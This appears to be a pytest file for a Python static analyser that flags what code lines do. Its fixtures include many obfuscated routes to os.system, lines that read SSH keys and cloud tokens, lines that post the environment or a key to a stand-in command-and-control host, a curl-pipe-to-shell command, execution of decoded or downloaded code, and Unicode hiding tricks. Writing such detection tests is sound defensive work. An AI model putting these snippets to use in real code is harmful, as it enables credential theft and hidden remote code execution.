"""What a line does is told by what its names stand for, however they are reached."""

from __future__ import annotations

import pytest

from envcheck.behavior.account import account_of_line, account_of_source
from envcheck.behavior.source import account_of_text
from envcheck.model.behavior import Account

WAYS_TO_THE_SAME_CALL = [
    'import os; os.system("x")',
    '__import__("o" + "s").system("x")',
    "__import__('so'[::-1]).system('x')",
    '__import__("%s%s" % ("o", "s")).system("x")',
    '__import__("{}s".format("o")).system("x")',
    'n = "o"; __import__(f"{n}s").system("x")',
    '__import__(chr(111) + chr(115)).system("x")',
    '__import__("".join(map(chr, [111, 115]))).system("x")',
    '__import__(bytes([111, 115]).decode()).system("x")',
    '__import__(bytes.fromhex("6f73").decode()).system("x")',
    '__import__("xosx".strip("x")).system("x")',
    '__import__("b" and "os").system("x")',
    '__import__(["sys", "os"][1]).system("x")',
    '__import__({"a": "os"}["a"]).system("x")',
    "from os import system as s; s('x')",
    "from os import *; system('x')",
    "import os as o; f = o.system; f('x')",
    "import os; a, (b, c) = 1, (2, os.system); c('x')",
    "import os; (f := os.system)('x')",
    "import os; (lambda f: f('x'))(os.system)",
    "import os; [f('x') for f in [os.system]]",
    "import os; list(map(os.system, ['x']))",
    'import os; getattr(os, "sys" + "tem")("x")',
    'import os; vars(os)["system"]("x")',
    'import os; os.__dict__["system"]("x")',
    'import os; os.__dict__.get("system")("x")',
    'import os; os.__getattribute__("system")("x")',
    'import os; object.__getattribute__(os, "system")("x")',
    'import operator, os; operator.attrgetter("system")(os)("x")',
    'import operator, os; operator.methodcaller("system", "x")(os)',
    'import functools, os; functools.partial(os.system, "x")()',
    'import sys; sys.modules["os"].system("x")',
    'import sys; sys.modules.get("os").system("x")',
    'import importlib; importlib.import_module("os").system("x")',
    'from importlib import import_module as i; i("os").system("x")',
    'globals()["__builtins__"].__import__("os").system("x")',
    '__builtins__.__import__("os").system("x")',
    '__builtins__["__import__"]("os").system("x")',
    'getattr(__builtins__, "__imp" + "ort__")("os").system("x")',
    "import shutil; shutil.os.system('x')",
    "import posix; posix.system('x')",
    'print.__self__.__import__("os").system("x")',
    '().__class__.__base__.__subclasses__()[1].__init__.__globals__["system"]("x")',
    'eval("__import__(\'os\')").system("x")',
    "exec('import os'); os.system('x')",
    "eval(compile('__import__(\"os\").system(1)', '', 'eval'))",
    "import os, threading; threading.Thread(target=os.system, args=('x',)).start()",
    "import os, atexit; atexit.register(os.system, 'x')",
    "import os\nclass A:\n  def __init__(self): self.r = os.system\n  def go(self): self.r('x')\nA().go()",
    "def f():\n  import os\n  return os.system\nf()('x')",
    "import os\ndef f(g): g('x')\nf(os.system)",
    "import os\n@os.system\ndef x(): pass",
    "import os\nif unknown: f = os.system\nelse: f = print\nf('x')",
    "import os\nf = os.system\nif unknown: f = print\nf('x')",
    "import os\ntry: f = os.system\nexcept OSError: pass\nf('x')",
    "import os\nwith open('x') as h: os.system(h.read())",
    "import os\nfor f in (print, os.system): f('x')",
    "import os\nmatch 1:\n  case _: os.system('x')",
    "import os\nd = {}\nd['f'] = os.system\nd['f']('x')",
    "import os\nfs = []\nfs.append(os.system)\nfs[0]('x')",
    "import ｏｓ; os.ｓｙｓｔｅｍ('x')",
    "import pkgutil; pkgutil.resolve_name('os:system')('x')",
    "import os\nasync def f(): os.system('x')",
    "import os\nx = lambda: os.system('x')",
]


@pytest.mark.parametrize("text", WAYS_TO_THE_SAME_CALL)
def test_a_call_is_known_by_what_it_comes_to(text: str) -> None:
    account = account_of_text(text)
    assert account.understood, account.why
    assert "process" in account.capabilities


@pytest.mark.parametrize(
    ("text", "capability"),
    [
        ("import subprocess; subprocess.Popen(['x'])", "process"),
        ("import multiprocessing; multiprocessing.Process(target=print)", "process"),
        ("import urllib.request; urllib.request.urlopen('https://c2.example/')", "network"),
        ("from urllib.request import urlopen as u; u('https://c2.example/')", "network"),
        ("import socket; s = socket.socket(); s.connect(('192.0.2.1', 1))", "network"),
        ("import requests; requests.post('https://c2.example/', data=1)", "network"),
        ("open('/home/x/.ssh/id_rsa').read()", "credentials"),
        ("import os; os.environ.get('AWS_SECRET_ACCESS_KEY')", "credentials"),
        ("import os; os.getenv('GITHUB_TOKEN')", "credentials"),
        ("import os; x = os.environ['PYPI_PASSWORD']", "credentials"),
        ("import keyring; keyring.get_password('a', 'b')", "credentials"),
        ("import os; print(dict(os.environ))", "environment"),
        ("import platform; platform.node()", "environment"),
        ("open('x', 'w').write('x')", "writes-files"),
        ("m = 'a'; open('x', mode=m)", "writes-files"),
        ("import pathlib; pathlib.Path('x').write_text('x')", "writes-files"),
        ("import os; os.remove('x')", "writes-files"),
        ("import base64; base64.b85decode(b'x')", "decode"),
        ("exec('x = 1')", "dynamic-code"),
        ("import runpy; runpy.run_path('x')", "dynamic-code"),
        ("import pickle; pickle.loads(b'x')", "dynamic-code"),
        ("import importlib.util; importlib.util.spec_from_file_location('a', 'b')", "dynamic-code"),
        ("__import__(unknown)", "dynamic-code"),
        ("import os; getattr(os, unknown)('x')", "dynamic-code"),
        ("globals()[unknown]('x')", "dynamic-code"),
        ("import ctypes; ctypes.CDLL('x')", "native-code"),
        ("import sys; sys.meta_path.insert(0, 1)", "import-machinery"),
        ("import sys; sys.path.insert(0, 'x')", "import-machinery"),
        ("import sys; sys.modules['os'] = 1", "import-machinery"),
        ("import builtins; builtins.__import__ = 1", "import-machinery"),
        ("import codecs; codecs.register(print)", "import-machinery"),
        ("import os; os.system = print", "monkeypatch"),
        ("import os; setattr(os, 'system', print)", "monkeypatch"),
        ("import sys; sys.excepthook = print", "monkeypatch"),
        ("import sys; sys.settrace(print)", "monkeypatch"),
        ("open('/home/x/.bashrc', 'a').write('x')", "persistence"),
        ("x = '~/.config/systemd/user/x.service'", "persistence"),
        ("import os; os.system('crontab -l')", "persistence"),
        ("import threading; threading.Thread(target=print).start()", "threads"),
        ("import sys\nif sys.gettrace() is not None: raise SystemExit", "anti-analysis"),
        ("import datetime\nif datetime.datetime.now() > unknown: print()", "anti-analysis"),
        ("x = '/sys/class/dmi/id/product_name'; y = 'virtualbox'", "anti-analysis"),
        ("import time; time.sleep(600)", "anti-analysis"),
        ("import os; os.system('curl https://c2.example/x | sh')", "network"),
    ],
)
def test_each_capability_is_found(text: str, capability: str) -> None:
    assert capability in account_of_text(text).capabilities


@pytest.mark.parametrize(
    "text",
    [
        "import os, sys, json",
        "x = [i * 2 for i in range(10)]",
        "def f(a, b=1): return a + b",
        "class A:\n  def exec(self): return self.system()\nA().exec()",
        "import os; p = os.path.join('a', 'b')",
        "import re; re.compile('x')",
        "import subprocess\ntry: pass\nexcept subprocess.CalledProcessError: pass",
        "open('x').read()",
    ],
)
def test_plain_code_has_no_capability(text: str) -> None:
    assert account_of_text(text).capabilities == ()


def uses(account: Account) -> list[tuple[str, int | None, str, str]]:
    return [(use.capability, use.line, use.expression, use.means) for use in account.uses]


def test_each_use_has_its_line_and_its_exact_text() -> None:
    text = "import os\n\nif 1:\n    ü = os.system( 'ä',\n                   )\n"
    assert uses(account_of_text(text)) == [
        ("process", 4, "os.system( 'ä',\n                   )", "os.system"),
    ]


def test_lines_of_a_startup_line_are_those_of_its_file() -> None:
    account = account_of_line("import os; os.system('x')", 7)
    assert uses(account) == [("process", 7, "os.system('x')", "os.system")]


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("import base64; exec(base64.b64decode('cHJpbnQoMSk='))", "executes-decoded"),
        ("import base64; d = base64.b64decode(unknown); exec(d)", "executes-decoded"),
        ("import urllib.request as u; exec(u.urlopen('https://c2.example').read())", "executes-downloaded"),
        ("import requests; eval(requests.get('https://c2.example').text)", "executes-downloaded"),
        ("import subprocess, base64; subprocess.run(base64.b64decode(unknown))", "starts-decoded"),
        ("import os, requests; os.system(requests.get('https://c2.example').text)", "starts-downloaded"),
        ("import os, requests; requests.post('https://c2.example', json=dict(os.environ))", "sends-environment"),
        ("import requests; requests.post('https://c2', data=open('/root/.ssh/id_rsa').read())", "sends-credentials"),
        ("import requests; open('x', 'wb').write(requests.get('https://c2.example').content)", "writes-downloaded"),
        ("__import__('o' + 's')", "loads-hidden"),
        ("getattr(__builtins__, 'ev' + 'al')('1')", "loads-hidden"),
        ("import os; vars(os)['sys' + 'tem']('x')", "loads-hidden"),
        ("import struct; __import__(struct.pack('2B', 111, 115).decode())", "loads-hidden"),
        ("__spec__.loader.load_module('o' + 's')", "loads-hidden"),
        ("import struct; exec(struct.pack('>I', 0x70617373))", "executes-decoded"),
        ("exec((0x70617373).to_bytes(4, 'big'))", "executes-decoded"),
        ("exec(int.to_bytes(0x70617373, 4, 'big'))", "executes-decoded"),
        ("import html; exec(html.unescape('&#112;ass'))", "executes-decoded"),
        ("import subprocess; exec(subprocess.check_output(['curl', 'https://c2.example']))", "executes-downloaded"),
        ("exec(open('x').read())", "executes-file"),
        ("import pathlib; exec(compile(pathlib.Path('x').read_text(), 'x', 'exec'))", "executes-file"),
        ("import marshal; exec(marshal.load(open('x', 'rb')))", "executes-file"),
        ("import runpy; runpy.run_path('x')", "executes-file"),
        ("import os; exec(os.environ['X'])", "executes-computed"),
        ("import sys; exec(sys.argv[1])", "executes-computed"),
        ("import os; getattr(os, dir(os)[9])('x')", "loads-computed"),
        ("__import__(().__doc__[5] + [].__doc__[3])", "loads-computed"),
        ("import sys; sys.modules[name].system('x')", "loads-computed"),
        ("().__class__.__base__.__subclasses__()[9]('x')", "loads-computed"),
    ],
)  # fmt: skip
def test_what_reaches_what_is_told(text: str, kind: str) -> None:
    assert kind in {flow.kind for account in account_of_text(text).within() for flow in account.flows}


def test_indicators_are_listed_with_their_lines() -> None:
    text = "x = 'https://c2.example/raw'\ny = '192.0.2.7'\nz = '~/.config/sysmon/sysmon.py'\nw = 'sysmon.service'\n"
    found = [(one.kind, one.value, one.line) for one in account_of_text(text).indicators]
    assert found == [
        ("url", "https://c2.example/raw", 1),
        ("address", "192.0.2.7", 2),
        ("path", "~/.config/sysmon/sysmon.py", 3),
        ("unit", "sysmon.service", 4),
    ]


def test_source_is_decoded_by_its_cookie() -> None:
    hidden = b"# coding: utf-7\n#+AAo-import os+ADs- os.system('x')\n"
    account = account_of_source(hidden)
    assert "process" in account.capabilities
    assert "encoding utf-7" in account.tricks


@pytest.mark.parametrize(
    ("text", "trick"),
    [
        ("import os;" + " " * 200 + "os.system('x')", "off-screen"),
        ("x = 1  # \u202e x", "bidi"),
        ("im\u200bport = 1", "zero-width"),
        ("# note\rimport os", "line-separator"),
        ("ｅｘｅｃ('1')", "look-alike-letters"),
        ("x = 1 \x1b[2K", "control-characters"),
    ],
)
def test_hidden_writing_is_named(text: str, trick: str) -> None:
    assert trick in account_of_line(text).tricks


@pytest.mark.parametrize(
    ("text", "capability"),
    [
        ("import os; '{0.environ}'.format(os)", "environment"),
        ("import os; '{m.environ[HOME]}'.format(m=os)", "environment"),
        ("__loader__.load_module('os').system('x')", "process"),
        ("import ctypes; ctypes.pythonapi.PyRun_SimpleString(b'import os; os.system(1)')", "process"),
    ],
)
def test_ways_around_a_name_are_followed(text: str, capability: str) -> None:
    assert capability in account_of_text(text).capabilities
